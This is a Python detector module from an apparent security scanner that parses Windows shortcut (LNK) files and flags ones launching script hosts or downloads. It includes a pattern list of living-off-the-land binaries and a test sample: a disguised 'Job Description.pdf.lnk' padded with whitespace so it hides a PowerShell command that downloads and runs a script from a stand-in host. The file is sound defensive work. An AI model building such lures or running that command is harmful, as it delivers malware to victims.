"""Windows shortcuts (LNK) whose target or arguments start a script host or a download: the
double-click stage of LNK lures in archives and attachments."""

from __future__ import annotations

import re
import struct
from collections.abc import Iterator
from dataclasses import dataclass

from heistguard.artifacts.detectors.base import Detector, Sample, ScanContext, Target
from heistguard.artifacts.filetype import Kind
from heistguard.findings import Evidence, Finding, Location, Rule, Severity

RULE = Rule(
    id="artifacts.lnk-command",
    severity=Severity.MEDIUM,
    title="Windows shortcut starts a command",
    rationale="A shortcut in a repo, archive or mail is a double-click away from running its target with "
    "its arguments; lures point it at powershell, cmd, mshta or rundll32 with a download or an encoded "
    "command, often padded so the Properties dialog hides it. Any shortcut is worth a look; one that "
    "starts a script host or downloads is high.",
    attack=("T1204.002", "T1547.009", "T1059"),
    references=("https://learn.microsoft.com/en-us/openspecs/windows_protocols/ms-shllink/",),
)

# MS-SHLLINK LinkFlags bits.
_HAS_IDLIST, _HAS_LINKINFO, _IS_UNICODE = 0x1, 0x2, 0x80
_STRING_FLAGS = ((0x4, "name"), (0x8, "relative path"), (0x10, "working dir"), (0x20, "arguments"), (0x40, "icon"))
_SHOW_MINNOACTIVE = 7
_LOLBINS = re.compile(
    r"\b(?:powershell|pwsh|cmd|mshta|wscript|cscript|rundll32|regsvr32|msiexec|certutil|bitsadmin|curl|conhost|"
    r"forfiles|schtasks|wmic)(?:\.exe)?\b|https?://|-enc(?:odedcommand)?\b|frombase64string",
    re.I,
)


@dataclass(frozen=True, slots=True)
class Shortcut:
    target: str
    arguments: str
    strings: dict[str, str]
    show_command: int


def parse_lnk(data: bytes) -> Shortcut | None:
    """The parts of a shell link that say what it runs; None when the bytes are not one."""
    if len(data) < 0x4C:
        return None
    (flags,) = struct.unpack_from("<I", data, 0x14)
    (show,) = struct.unpack_from("<I", data, 0x3C)
    pos = 0x4C
    target = ""
    try:
        if flags & _HAS_IDLIST:
            (size,) = struct.unpack_from("<H", data, pos)
            idlist = data[pos + 2 : pos + 2 + size]
            target = _idlist_path(idlist)
            pos += 2 + size
        if flags & _HAS_LINKINFO:
            size, _, _, _, base_off = struct.unpack_from("<IIIII", data, pos)
            if base_off and base_off < size:
                end = data.find(b"\x00", pos + base_off)
                target = data[pos + base_off : end].decode("latin-1") or target
            pos += size
        strings: dict[str, str] = {}
        for bit, label in _STRING_FLAGS:
            if not flags & bit:
                continue
            (count,) = struct.unpack_from("<H", data, pos)
            pos += 2
            width = 2 if flags & _IS_UNICODE else 1
            raw = data[pos : pos + count * width]
            strings[label] = raw.decode("utf-16-le" if width == 2 else "latin-1", "replace")
            pos += count * width
    except struct.error:
        return Shortcut(target, "", {}, show)
    return Shortcut(target or strings.get("relative path", ""), strings.get("arguments", ""), strings, show)


def _idlist_path(idlist: bytes) -> str:
    """A readable hint of the target from the item id list (file names are stored in ANSI and UTF-16)."""
    names = re.findall(rb"[\x20-\x7e]{4,}\.(?:exe|bat|cmd|ps1|vbs|js|hta|dll)", idlist, re.I)
    names += [m.decode("utf-16-le").encode() for m in re.findall(rb"(?:[\x20-\x7e]\x00){4,}", idlist)]
    hits = [n.decode("latin-1") for n in names if re.search(rb"\.(?:exe|bat|cmd|ps1|vbs|js|hta|dll)$", n, re.I)]
    return hits[-1] if hits else ""


def _check(target: Target, ctx: ScanContext) -> Iterator[Finding]:
    link = parse_lnk(target.data)
    if link is None:
        return
    command = f"{link.target} {link.arguments}".strip()
    evidence = [
        Evidence(location=Location(path=target.path, logical="LNK target"), text=command[:300] or "(no target)")
    ]
    padded = len(link.arguments) > 250 or link.arguments.startswith(" " * 20)
    hidden = link.show_command == _SHOW_MINNOACTIVE
    if _LOLBINS.search(command) or padded:
        why = ["starts a script host or downloads"] + (["arguments padded to hide them"] if padded else [])
        why += ["window minimised"] if hidden else []
        yield RULE.finding(f"shortcut {target.name} {', '.join(why)}", evidence, severity=Severity.HIGH)
    else:
        yield RULE.finding(f"shortcut {target.name} runs {link.target or 'a target'}", evidence)


def build_lnk(target: str, arguments: str, show: int = 1) -> bytes:
    """A minimal MS-SHLLINK file with a LinkInfo local path and UTF-16 arguments (for samples and tests)."""
    header = bytearray(0x4C)
    header[0:20] = bytes.fromhex("4c0000000114020000000000c000000000000046")
    struct.pack_into("<I", header, 0x14, _HAS_LINKINFO | 0x20 | _IS_UNICODE)
    struct.pack_into("<I", header, 0x3C, show)
    path = target.encode("latin-1") + b"\x00"
    info_header = 0x1C
    link_info = struct.pack(
        "<IIIIIII", info_header + len(path) + 1, info_header, 1, 0, info_header, 0, info_header + len(path)
    )
    link_info += path + b"\x00"
    args = struct.pack("<H", len(arguments)) + arguments.encode("utf-16-le")
    return bytes(header) + link_info + args + b"\x00\x00\x00\x00"


DETECTOR = Detector(
    rule=RULE,
    applies=lambda t: t.kind is Kind.LNK,
    check=_check,
    bad=(
        Sample(
            "Job Description.pdf.lnk",
            build_lnk(
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                " " * 260 + "-w hidden -c iwr https://cdn.example.invalid/a.ps1 | iex",
                show=7,
            ),
        ),
        Sample("notes.lnk", build_lnk(r"C:\Users\Public\notes.txt", ""), "any shortcut is reported at medium"),
    ),
    good=(Sample("notes.txt", b"a shortcut is not this\n"),),
)
